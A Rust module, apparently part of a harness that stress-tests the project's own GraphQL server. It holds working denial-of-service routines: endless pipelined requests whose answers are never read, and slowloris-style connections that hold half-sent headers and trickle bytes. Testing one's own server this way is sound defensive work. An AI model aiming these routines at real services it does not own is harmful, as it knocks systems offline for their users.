//! Attacks by bytes that are sent and not read, or not sent.

use anyhow::Result;
use tokio::io::AsyncWriteExt;

use super::{Inputs, PAUSE, count};
use crate::attacks::requests::{ADMITTED, body, head};
use crate::ground::{Ground, connect};

/// Connections that one worker holds at once.
const HELD: usize = 100;

/// Requests without end on one connection, whose answers are not read.
pub async fn pipelined(ground: Ground, worker: usize, inputs: Inputs) -> Result<()> {
    send_without_reading(&ground, worker, &inputs, "{ credits { balanceMilli } }").await
}

/// The same with documents whose answers are as large as they may be.
pub async fn large_answers(ground: Ground, worker: usize, inputs: Inputs) -> Result<()> {
    send_without_reading(&ground, worker, &inputs, ADMITTED).await
}

async fn send_without_reading(ground: &Ground, worker: usize, inputs: &Inputs, document: &str) -> Result<()> {
    let account = ground.account(worker);
    let body = body(document, &serde_json::json!({}));
    let request = format!("{}{body}", head(account, body.len()));
    let mut stream = connect(account, ground.http).await?;
    loop {
        stream.write_all(request.as_bytes()).await?;
        count(inputs);
    }
}

/// Many connections, each with half a head.
pub async fn half_heads(ground: Ground, worker: usize, inputs: Inputs) -> Result<()> {
    let account = ground.account(worker);
    let mut held = Vec::new();
    while held.len() < HELD {
        let mut stream = connect(account, ground.http).await?;
        stream.write_all(b"POST /graphql HTTP/1.1\r\nhost: 127").await?;
        count(&inputs);
        held.push(stream);
    }
    loop {
        tokio::time::sleep(PAUSE).await;
        for stream in &mut held {
            stream.write_all(b"0").await?;
            count(&inputs);
        }
    }
}
